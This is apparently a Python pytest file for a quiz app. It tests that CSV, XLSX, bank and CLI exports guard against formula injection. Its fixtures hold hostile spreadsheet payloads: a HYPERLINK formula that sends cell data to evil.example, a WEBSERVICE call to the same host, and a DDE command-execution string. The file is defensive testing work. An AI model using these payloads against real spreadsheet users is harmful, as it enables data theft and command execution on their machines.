"""Formula (CSV) injection: text a participant or organizer typed never becomes a spreadsheet formula
in a CSV or XLSX export, and numbers stay numbers.

CSV: a text cell starting with = + - @ TAB or CR gets a leading apostrophe (Excel and LibreOffice
then show it as text). XLSX: such a cell is written with the string type, so no `<f>` formula
element exists in the file; the text is kept exactly as typed.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from quiz.extensions import db
from quiz.models import Question

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+SUM(1,2)", "-2+3",
                 "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.fixture
def hostile(client, make_quiz, make_unit, make_attempt, login_as, frozen_clock):
    unit = make_unit(code="F1", name="=1+1 Đơn vị", headcount=10)
    quiz = make_quiz(questions=2, code="FORM1", title="=Đợt thi")
    question = db.session.scalar(db.select(Question).where(Question.set_id == quiz.draw_rules[0].set_id))
    question.text = "=WEBSERVICE(\"http://evil.example\")"
    quiz.contest.title = "=Cuộc thi"
    db.session.commit()
    for n, name in enumerate(HOSTILE_NAMES):
        make_attempt(quiz, unit, full_name=name, identity=f"09123450{n:02d}", score=n % 3, duration_ms=60_000 + n)
    login_as("admin")
    assert client.post("/admin/quizzes/FORM1/rankings/publish").status_code == 302
    return quiz


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))


def test_csv_text_cells_are_guarded_and_numbers_stay_numbers(client, hostile):
    urls = ["/admin/quizzes/FORM1/rankings/export.csv", "/r/FORM1/export.csv",
            "/admin/quizzes/FORM1/rankings/export.csv?table=units",
            "/admin/quizzes/FORM1/rankings/export.csv?table=questions",
            f"/admin/contests/{hostile.contest_id}/rankings/export.csv"]
    for url in urls:
        rows = csv_rows(client.get(url))
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), f"{url}: {cell!r} would run as a formula"
    people = csv_rows(client.get(urls[0]))
    names = {row[1] for row in people[1:]}
    assert names == {"'" + name for name in HOSTILE_NAMES}
    for row in people[1:]:
        assert row[0].isdigit() and row[6].isdigit() and row[2].isdigit()  # rank, score, phone: no apostrophe
        assert re.fullmatch(r"\d+(\.\d+)?", row[11])  # duration in seconds
    units = csv_rows(client.get(urls[2]))
    assert any(row[2] == "'=1+1 Đơn vị" and row[5] == "7" for row in units[1:])
    questions = csv_rows(client.get(urls[3]))
    assert any("'=WEBSERVICE" in cell for row in questions for cell in row)


def xlsx_parts(response) -> dict[str, str]:
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml")}


def test_xlsx_has_no_formula_and_keeps_text_and_numbers(client, hostile):
    for url in ("/admin/quizzes/FORM1/rankings/export.xlsx", "/r/FORM1/export.xlsx",
                f"/admin/contests/{hostile.contest_id}/rankings/export.xlsx"):
        response = client.get(url)
        for name, xml in xlsx_parts(response).items():
            assert "<f>" not in xml and "<f " not in xml, f"{url}: {name} contains a formula"
        workbook = load_workbook(io.BytesIO(response.data))
        people = workbook.worksheets[0]
        header_row = next(r for r in range(1, 12) if people.cell(r, 1).value == "Hạng")
        rows = list(people.iter_rows(min_row=header_row + 1))
        assert {r[1].value for r in rows} == set(HOSTILE_NAMES), url  # exactly as typed, no apostrophe
        for r in rows:
            assert r[1].data_type == "s"
            assert isinstance(r[0].value, int) and isinstance(r[6].value, int)  # rank and score are numbers
            assert r[0].data_type == "n" and r[6].data_type == "n"
        title = people.cell(1, 1)
        assert title.value.startswith(("=Đợt thi", "=Cuộc thi")) and title.data_type == "s"


def test_bank_exports_guard_formula_text(client, hostile):
    set_id = hostile.draw_rules[0].set_id
    text = client.get(f"/admin/bank/sets/{set_id}/export/csv").get_data(as_text=True)
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for c in row]
    assert "'=WEBSERVICE(\"http://evil.example\")" in cells
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)
    response = client.get(f"/admin/bank/sets/{set_id}/export/xlsx")
    assert not any("<f>" in xml for xml in xlsx_parts(response).values())
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    assert sheet["A2"].value.startswith("=WEBSERVICE") and sheet["A2"].data_type == "s"


def test_cli_export_is_guarded_too(runner, hostile, tmp_path):
    target = tmp_path / "x.csv"
    result = runner.invoke(args=["export", "FORM1", "--format", "csv", "-o", str(target)])
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(target.read_text("utf-8-sig"), newline="")) for c in row]
    assert "'@SUM(A1:A9)" in cells and not any(c.startswith(FORMULA_STARTS) for c in cells)
